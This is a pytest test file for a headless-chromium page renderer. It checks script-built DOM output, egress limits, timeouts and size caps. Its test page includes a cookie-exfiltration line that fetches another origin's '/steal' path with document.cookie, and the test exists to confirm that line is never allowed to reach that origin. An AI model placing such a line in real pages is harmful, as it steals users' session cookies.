"""render: chromium — headless Debian chromium against pages served on 127.0.0.1: the DOM its scripts build,
only the page's own origin reachable, and the limits (egress policy, time, size, a missing chromium)."""

from __future__ import annotations

import pytest
from httpserver import FeedServer
from testkit import LOOPBACK

from watch.errors import EgressRefused, RenderError
from watch.http.render import chromium_path, render_page
from watch.records import FetchSettings

needs_chromium = pytest.mark.skipif(chromium_path() is None,
                                    reason="Debian's chromium is not installed here: render: chromium is not tested")
ALLOWED = FetchSettings(allow_networks=LOOPBACK)


def app(other: str) -> str:
    """A page whose list is built by its script from its own origin's JSON; it also tries to reach `other`."""
    return f"""<!doctype html><html><body><div id="root"></div>
<img src="{other}/pixel.gif">
<script>
fetch("{other}/steal?c=" + document.cookie).catch(() => null);
fetch("/api/posts.json").then(r => r.json()).then(posts => {{
  document.getElementById("root").innerHTML = "<ul>" + posts.map(
    p => `<li class="post"><a href="/news/${{p.slug}}">${{p.title}}</a></li>`).join("") + "</ul>";
}});
</script></body></html>"""


@needs_chromium
def test_the_dom_built_by_scripts_and_nothing_but_the_own_origin(server: FeedServer) -> None:
    other = FeedServer().start()
    try:
        server.add("/app", app(other.base), content_type="text/html")
        server.add("/api/posts.json", '[{"slug": "one", "title": "First post built by script"},'
                                      ' {"slug": "two", "title": "Second post built by script"}]',
                   content_type="application/json")
        html = render_page(server.url("/app"), ALLOWED).decode()
        assert '<a href="/news/one">First post built by script</a>' in html
        assert '<a href="/news/two">Second post built by script</a>' in html
        assert server.hits("/api/posts.json") == 1
        assert other.requests == []  # another origin, even on the same machine: never reached
    finally:
        other.stop()


@needs_chromium
def test_the_egress_policy_is_applied_before_chromium_runs(server: FeedServer) -> None:
    server.add("/app", "<html><body>hi</body></html>", content_type="text/html")
    with pytest.raises(EgressRefused, match=r"not rendered: 127\.0\.0\.1 is a loopback address"):
        render_page(server.url("/app"), FetchSettings())
    assert server.hits("/app") == 0


@needs_chromium
def test_a_page_that_never_ends_is_killed_at_the_timeout(server: FeedServer) -> None:
    server.add("/spin", "<html><body><script>while (true) {}</script></body></html>", content_type="text/html")
    with pytest.raises(RenderError, match=r"^chromium timed out after 2s$"):
        render_page(server.url("/spin"), ALLOWED, timeout=2)


@needs_chromium
def test_a_rendered_page_larger_than_the_cap_is_refused(server: FeedServer) -> None:
    server.add("/big", "<html><body><script>document.body.textContent = 'x'.repeat(200000)</script></body></html>",
               content_type="text/html")
    small = FetchSettings(allow_networks=LOOPBACK, max_bytes=50_000)
    with pytest.raises(RenderError, match=r"too large \(> 50000 bytes\)"):
        render_page(server.url("/big"), small)


def test_a_missing_chromium_is_said_plainly(monkeypatch: pytest.MonkeyPatch, tmp_path) -> None:
    monkeypatch.setenv("PATH", str(tmp_path))
    with pytest.raises(RenderError, match="render: chromium is set but chromium is not installed"):
        render_page("https://lab.example.org/news", ALLOWED)
